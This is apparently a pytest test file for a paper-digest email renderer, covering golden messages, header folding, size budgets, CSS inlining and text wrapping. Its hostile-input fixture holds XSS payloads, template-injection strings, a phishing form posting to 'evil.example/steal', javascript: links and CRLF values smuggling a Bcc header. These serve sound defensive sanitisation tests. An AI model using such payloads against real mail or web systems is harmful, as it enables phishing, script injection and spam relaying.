"""The email itself: golden files, headers as sent, the size budget, CSS inlined once.

Golden files live in tests/golden/. After an intended change to the templates, regenerate them with
``DIGEST_UPDATE_GOLDEN=1 make test`` and review the diff like code.
"""

from __future__ import annotations

import email
import email.policy
import os
import re
import smtplib
from datetime import UTC, date, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

import pytest
from conftest import TEST_SECRET_KEY, SmtpServer, seed_papers, sent_refs
from lxml import html as lxml_html

from digest.email.mime import qp
from digest.email.render import HTML_BUDGET, Composed, Renderer, inline_css, preinline_template
from digest.email.transport import MemoryTransport
from digest.links import Links
from digest.models import Digest, Match, Paper, Profile, Reason, Subscriber
from digest.run import pipeline
from digest.settings import load_settings
from digest.store import Store
from digest.tokens import Purpose, Signer
from digest.wiring import Services

GOLDEN = Path(__file__).resolve().parent / "golden"
SAMPLES = Path(__file__).resolve().parent.parent / "config" / "samples"
DAY = date(2025, 11, 22)
SIGNER = Signer([TEST_SECRET_KEY])
NOW = datetime(2025, 11, 22, 7, 0, tzinfo=UTC)
SENDER = "Paper Digest <digest@example.org>"


def find(papers: list[Paper], words: str) -> Paper:
    return next(p for p in papers if words.lower() in p.title.lower())


def digest_of(sub: Subscriber, matches: list[tuple[Paper, tuple[Reason, ...]]], more: int = 0) -> Digest:
    return Digest(sub, tuple(Match(p, 2 * len(r), r) for p, r in matches), DAY, more)


def scrub(raw: bytes) -> str:
    """A message as text with what changes between runs made constant: boundaries and the Date."""
    text = raw.decode("ascii")
    for i, b in enumerate(dict.fromkeys(re.findall(r'boundary="([^"]+)"', text))):
        text = text.replace(b, f"BOUNDARY{i}")
    return re.sub(r"^Date: .*$", "Date: (scrubbed)", text, flags=re.MULTILINE)


def check_golden(name: str, data: bytes) -> None:
    actual = scrub(data)
    path = GOLDEN / f"{name}.eml"
    if os.environ.get("DIGEST_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="ascii")
    assert path.is_file(), f"no golden file {path}; create it with DIGEST_UPDATE_GOLDEN=1"
    assert actual == path.read_text(encoding="ascii"), f"{name} differs from {path}"


def parses_back(r: Renderer, composed: Composed) -> EmailMessage:
    """The sent bytes parsed by the email package: the same text and HTML the templates made."""
    data = composed.outgoing.data
    assert b"\r" not in data, "lines end in LF (as a Maildir stores them; smtplib sends CRLF)"
    assert all(len(line) <= 998 for line in data.split(b"\n"))
    data.decode("ascii")  # 7-bit clean
    back = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(back, EmailMessage)
    assert not back.defects
    context = r.context(composed.digest)
    for part, made in (("plain", r.text(context)), ("html", r.html(context))):
        body = back.get_body((part,))
        assert body is not None and not body.defects
        assert body.get_content().replace("\r\n", "\n") == made.replace("\r\n", "\n"), part
    assert str(back["Subject"]) == context["subject"]
    assert back["Message-ID"] == composed.outgoing.message_id
    assert back["To"].addresses[0].addr_spec == composed.digest.subscriber.email
    return back


HOSTILE_TITLES = [
    "<script>alert('t')</script>Attention Is All You Need",
    'A <img src=x onerror="alert(1)"> study of RAG',
    "{{ 7*7 }} and {% for x in y %}templates{% endfor %} in RAG",
    "<form action='https://evil.example/steal'><input name=p></form>RAG phishing",
    "Line\r\nBcc: victim@example.org\r\n\r\nRAG header injection",
]


def hostile_digest() -> Digest:
    sub = Subscriber("ada@example.org", "Ada\r\nBcc: x@example.org", Profile(("RAG",)))
    papers = [
        Paper(
            title,
            "Abstract with <b>markup</b> and <a href='javascript:alert(2)'>a link</a> about RAG.",
            url="javascript:alert(3)" if i == 0 else f"https://example.org/{i}",
        )
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    return digest_of(sub, [(p, (Reason("RAG", "title"),)) for p in papers])


def golden_cases() -> dict[str, tuple[Digest, str | None]]:
    papers = seed_papers()
    ada = Subscriber(
        "ada@example.org", "Ada Lovelace", Profile(("speculative decoding", "RAG"), ("survey",), 10)
    )
    normal = digest_of(
        ada,
        [
            (find(papers, "DySpec"), (Reason("speculative decoding", "title"),)),
            (find(papers, "AlignRAG"), (Reason("RAG", "title"),)),
            (find(papers, "Inference Scaling for Long-Context"), (Reason("RAG", "abstract"),)),
        ],
        more=2,
    )
    grace = Subscriber("grace@example.org", "Grace", Profile())
    top = sorted(papers, key=lambda p: (-(p.upvotes or 0), p.title))[:5]
    trending = digest_of(grace, [(p, ()) for p in top])
    one = digest_of(ada, [(find(papers, "DySpec"), (Reason("speculative decoding", "title"),))])
    big_sub = Subscriber("bob@example.org", "", Profile(("RAG",)))
    huge = [
        Paper(
            f"Paper {i:03d} on RAG at scale",
            ("Retrieval-augmented generation. " * 320)[:10_000],
            f"2411.{i:05d}",
        )
        for i in range(200)
    ]
    big = digest_of(big_sub, [(p, (Reason("RAG", "title"),)) for p in huge])
    return {
        "normal": (normal, "https://digest.example.org"),
        "trending": (trending, None),
        "one-paper": (one, None),
        "200-papers": (big, None),
        "hostile": (hostile_digest(), None),
    }


@pytest.mark.parametrize("name", ["normal", "trending", "one-paper", "200-papers", "hostile"])
def test_golden_messages(name: str) -> None:
    digest, base_url = golden_cases()[name]
    r = Renderer(sender=SENDER, links=Links(SIGNER, base_url) if base_url else None)
    composed = r.compose(digest, NOW)
    msg = parses_back(r, composed)
    html = msg.get_body(("html",)).get_content()
    assert len(html.encode()) < HTML_BUDGET
    assert "Unsubscribe" in html and "You get this because" in html  # the footer is always there
    check_golden(name, composed.outgoing.data)


def test_200_papers_with_10kb_abstracts_fit_the_budget_and_say_how_many_more() -> None:
    digest, _ = golden_cases()["200-papers"]
    composed = Renderer(sender=SENDER).compose(digest, NOW)
    shown = len(composed.digest.matches)
    assert 10 <= shown < 200
    assert composed.digest.more == 200 - shown
    message = composed.outgoing.message()
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    assert len(html.encode()) < HTML_BUDGET
    assert f"{200 - shown} more papers matched: see them in your next digest" in html
    assert f"{200 - shown} more papers matched: see them in your next digest" in text
    assert html.count('class="paper"') == shown
    # One more paper would not have fitted: the cut is as late as it can be.
    assert (
        shown == 200
        or len(Renderer(sender=SENDER).html(_context_with(digest, shown + 1)).encode()) > HTML_BUDGET
    )


def _context_with(digest: Digest, keep: int) -> dict[str, object]:
    r = Renderer(sender=SENDER)
    return r.context(Digest(digest.subscriber, digest.matches[:keep], digest.day, 200 - keep))


def test_papers_cut_by_the_size_budget_stay_candidates(tmp_path: Path, now: datetime) -> None:
    """The ledger records only the papers that were in the email; the next digest brings the rest."""
    big = "\n".join(
        f"Paper {i:03d} on retrieval-augmented generation and RAG\n{'Retrieval matters. ' * 40}\n·\nNov 22 {i + 1}"
        for i in range(120)
    )
    (tmp_path / "big.txt").write_text(big, encoding="utf-8")
    cfg = tmp_path / "digest.toml"
    cfg.write_text(
        'database = "state.sqlite3"\nsend_at = "00:00"\n[delivery]\nmethod = "maildir"\nmaildir = "outbox"\n'
        '[[sources]]\nkind = "snapshot"\nname = "big"\npath = "big.txt"\n'
        '[[subscribers]]\nemail = "ada@example.org"\nkeywords = ["RAG"]\nmax_papers = 200\n',
        encoding="utf-8",
    )
    settings = load_settings(cfg)
    transport = MemoryTransport()
    with Store.open(settings.database) as store:
        first = pipeline.run_once(Services(settings, transport=transport), store, now)
        shown = len(first.subscribers[0].matches)
        assert 0 < shown < 120
        assert len(sent_refs(store, "ada@example.org")) == shown
        assert len(store.papers.recent(now - timedelta(days=7))) == 120
        second = pipeline.run_once(Services(settings, transport=transport), store, now + timedelta(days=1))
        assert len(sent_refs(store, "ada@example.org")) == min(120, 2 * shown)
    again = {m.paper.key for m in first.subscribers[0].matches} & {
        m.paper.key for m in second.subscribers[0].matches
    }
    assert again == set()  # nothing twice
    assert [str(m["Subject"]).split(" ")[0] for m in transport.sent] == [
        str(shown),
        str(min(shown, 120 - shown)),
    ]


def test_headers_are_never_folded_into_encoded_words() -> None:
    """policy.SMTP folds a long URL at 78 into =?utf-8?q?...?= words; ours keep URLs as written."""
    sub = Subscriber(
        "a.rather.long.address.for.folding@research-lab.example.org", "Zoë Ünïcode", Profile(("RAG",))
    )
    digest = digest_of(
        sub, [(Paper("Ünïcödé — φ-Decoding and RAG", "About RAG."), (Reason("RAG", "title"),))]
    )
    r = Renderer(
        sender="Paper Digest <digest@example.org>",
        links=Links(SIGNER, "https://digest.example.org/a/long/path"),
    )
    composed = r.compose(digest, NOW)
    msg = composed.outgoing.message()
    naive = msg.as_bytes(policy=email.policy.SMTP).decode("ascii")  # what a 78-column fold does
    assert "List-Unsubscribe: =?utf-8?q?=3Chttps=3A//digest" in naive
    raw = composed.outgoing.data.decode("ascii")
    headers = raw.split("\n\n", 1)[0]
    unfolded = re.sub(r"\n[ \t]", " ", headers)
    line = next(h for h in unfolded.split("\n") if h.startswith("List-Unsubscribe:"))
    assert "=?" not in line
    token = SIGNER.make(Purpose.UNSUBSCRIBE, sub.email)
    assert f"<https://digest.example.org/a/long/path/u/{token}>" in line
    assert all(len(h) <= 998 for h in headers.split("\n"))
    # Non-ASCII subject and names are kept: encoded as RFC 2047 requires, decoded to the same words.
    back = parses_back(r, composed)
    assert str(back["Subject"]).startswith("1 new paper on RAG · Nov 22")
    assert back["To"].addresses[0].display_name == "Zoë Ünïcode"
    # CR/LF in a name or a title cannot add a header.
    hostile = r.compose(hostile_digest(), NOW).outgoing
    sent = email.message_from_bytes(hostile.data, policy=email.policy.default)
    assert sent["Bcc"] is None
    assert "\n" not in str(sent["Subject"]) and "\r" not in str(sent["To"])


def test_headers_arrive_unfolded_at_a_real_smtp_server(smtp_server: SmtpServer) -> None:
    sub = Subscriber("a.rather.long.address.for.folding@research-lab.example.org", "", Profile(("RAG",)))
    digest = digest_of(sub, [(Paper("RAG", "About RAG."), (Reason("RAG", "title"),))])
    out = (
        Renderer(sender=SENDER, links=Links(SIGNER, "https://digest.example.org/a/long/path"))
        .compose(digest, NOW)
        .outgoing
    )
    with smtplib.SMTP(smtp_server.host, smtp_server.port, timeout=5) as conn:
        conn.sendmail(out.sender, list(out.recipients), out.wire())
    received = smtp_server.handler.received_by(sub.email)[0]
    assert received["List-Unsubscribe"] == out.message()["List-Unsubscribe"]
    assert "=?" not in str(received["List-Unsubscribe"])
    assert received["Message-ID"] == out.message_id


def test_internationalised_address_is_written_as_utf8_for_smtputf8() -> None:
    sub = Subscriber("zoë@exämple.org", "Zoë", Profile(("RAG",)))
    digest = digest_of(sub, [(Paper("RAG", "About RAG."), (Reason("RAG", "title"),))])
    out = Renderer(sender=SENDER).compose(digest, NOW).outgoing
    assert out.smtputf8 and out.recipients == ("zoë@exämple.org",)
    assert "To: =?utf-8?q?Zo=C3=AB?= <zoë@exämple.org>\n".encode() in out.data  # RFC 6532
    back = out.message()
    assert back["To"].addresses[0].addr_spec == "zoë@exämple.org"
    assert back.get_body(("plain",)).get_content().startswith("1 new paper")


def _styles(html: str) -> list[tuple[str, str, str]]:
    tree = lxml_html.fromstring(html)
    return [
        (el.tag, el.get("class", ""), el.get("style", "")) for el in tree.iter() if isinstance(el.tag, str)
    ]


@pytest.mark.parametrize("name", ["normal", "trending", "hostile"])
def test_css_inlined_once_gives_the_same_styles_as_premailer_per_email(name: str) -> None:
    digest, base_url = golden_cases()[name]
    r = Renderer(sender=SENDER, links=Links(SIGNER, base_url) if base_url else None)
    assert r.inlines_once
    context = r.context(digest)
    per_email = inline_css(r.env.get_template("digest.html").render(context))
    assert _styles(r.html(context)) == _styles(per_email)


def test_a_template_that_cannot_be_inlined_once_falls_back_to_per_email(tmp_path: Path) -> None:
    (tmp_path / "digest.txt").write_text("{{ subject }}\n", encoding="utf-8")
    (tmp_path / "digest.html").write_text(
        "<html><head><style>p { color: #111111 }</style></head><body>"
        '<p {% if count %}class="n"{% endif %}>{{ count }} papers</p></body></html>',
        encoding="utf-8",
    )
    assert preinline_template((tmp_path / "digest.html").read_text(encoding="utf-8")) is None
    r = Renderer(sender=SENDER, templates_dir=tmp_path)
    assert not r.inlines_once
    digest, _ = golden_cases()["one-paper"]
    html = r.render(digest, NOW).get_body(("html",)).get_content()
    assert '<p class="n" style="color:#111">1 papers</p>' in html


def test_the_text_part_wraps_at_72_and_keeps_a_line_that_fits_as_it_is() -> None:
    """A reason that fits stays one line under its paper; one longer than 72 characters is wrapped at
    word boundaries with the same indent, no word cut, none lost."""
    papers = seed_papers()
    short = Reason("", "about", ("lora", "rank"))
    long_title = Reason(papers[1].title + " and a long tail of words to wrap", "similar", ("moe", "experts"))
    digest = digest_of(Subscriber("ada@example.org"), [(papers[0], (short,)), (papers[2], (long_title,))])
    text = Renderer(sender=SENDER).render(digest, NOW).get_body(("plain",)).get_content()
    lines = text.splitlines()
    assert "    close to your description (shares: lora, rank)" in lines
    start = next(i for i, line in enumerate(lines) if line.startswith("    similar to: "))
    wrapped = []
    for line in lines[start:]:
        if not line.startswith("    ") or not line.strip():
            break
        wrapped.append(line)
    assert len(wrapped) > 1 and all(len(line) <= 72 for line in wrapped)
    assert " ".join(line.strip() for line in wrapped) == long_title.text


def test_the_text_parts_wrap_is_textwraps_for_every_seed_paper_and_long_words() -> None:
    """The text part packs words itself (faster than textwrap's general chunking); it must give exactly
    what textwrap gives with words never cut, for every title and abstract of the seed papers, reasons of
    every length, a word longer than a line, and a line exactly as wide as the width."""
    import textwrap

    from digest.redact import one_line

    wrap = Renderer(sender=SENDER).env.filters["wrap"]
    texts = [t for p in seed_papers() for t in (p.title, p.abstract, f"similar to: {p.title} (shares: a, b)")]
    texts += [
        "see https://example.org/" + "x" * 80 + " and then more words after it " * 3,
        "y" * 90,
        ("word " * 14 + "abc").strip(),  # 72 characters: fits at indent 0, not at 4
        "a b\tc\n  d",
        "",
    ]
    for text in texts:
        for indent in (0, 2, 4):
            pad = " " * indent
            expected = textwrap.fill(
                one_line(text),
                72,
                initial_indent=pad,
                subsequent_indent=pad,
                break_long_words=False,
                break_on_hyphens=False,
            )
            assert wrap(text, indent) == expected, (text, indent)


def test_only_http_links_and_no_markup_from_feeds() -> None:
    html = Renderer(sender=SENDER).render(hostile_digest(), NOW).get_body(("html",)).get_content()
    tree = lxml_html.fromstring(html)
    assert tree.xpath("//script | //img | //form | //input | //b") == []
    assert {e.get("class") for e in tree.xpath("//strong")} <= {"found"}  # only the key finding's emphasis
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in tree.xpath("//a/@href"))
    assert "{{ 7*7 }}" in html and "{% for x in y %}" in html  # template syntax shows as written


@pytest.mark.parametrize("name", ["normal", "trending", "one-paper", "200-papers", "hostile"])
def test_papers_rendered_once_and_spliced_give_the_same_bytes_as_whole_renders(name: str) -> None:
    digest, base_url = golden_cases()[name]
    r = Renderer(sender=SENDER, links=Links(SIGNER, base_url) if base_url else None)
    assert r.html_template is not None and r.html_template.split and r.text_template.split
    shown = r.fit(digest)[0]
    light, full = r.context(shown, full=False), r.context(shown)
    for _ in range(2):  # first the blocks are rendered, then they come from the cache
        for split, body in ((r.html_template, r.html_body(light)), (r.text_template, r.text_body(light))):
            whole = split.whole.render(full)
            assert body.encoded == qp(whole)  # the cached encodings joined == encoding the whole part
            assert body.size == len(whole.encode())
    assert r.html_template.line_aligned  # spliced at line ends: encodings reused


def test_a_paper_block_that_shows_the_number_is_rendered_whole(tmp_path: Path) -> None:
    (tmp_path / "digest.txt").write_text(
        "{% for e in entries %}{% block paper scoped %}{{ e.title }}\n{% endblock %}{% endfor %}",
        encoding="utf-8",
    )
    (tmp_path / "digest.html").write_text(
        "<html><body><ol>{% for e in entries %}{% block paper scoped %}<li>{{ e.number }}. {{ e.title }}</li>\n"
        "{% endblock %}{% endfor %}</ol></body></html>",
        encoding="utf-8",
    )
    digest, _ = golden_cases()["normal"]
    r = Renderer(sender=SENDER, templates_dir=tmp_path)
    html = r.compose(digest, NOW).outgoing.message().get_body(("html",)).get_content()
    assert "<li>1. " in html and "<li>2. " in html  # right, not a cached "1." for every paper
    assert r.html_template is not None and not r.html_template.split


def test_a_template_without_a_paper_block_still_renders(tmp_path: Path) -> None:
    (tmp_path / "digest.txt").write_text("{% for e in entries %}{{ e.number }} {{ e.title }}\n{% endfor %}")
    (tmp_path / "digest.html").write_text(
        "<html><body>{% for e in entries %}<p>{{ e.title }}</p>{% endfor %}</body></html>"
    )
    digest, _ = golden_cases()["normal"]
    r = Renderer(sender=SENDER, templates_dir=tmp_path)
    assert not r.text_template.split
    composed = r.compose(digest, NOW)
    assert composed.outgoing.message().get_body(("plain",)).get_content().startswith("1 ")
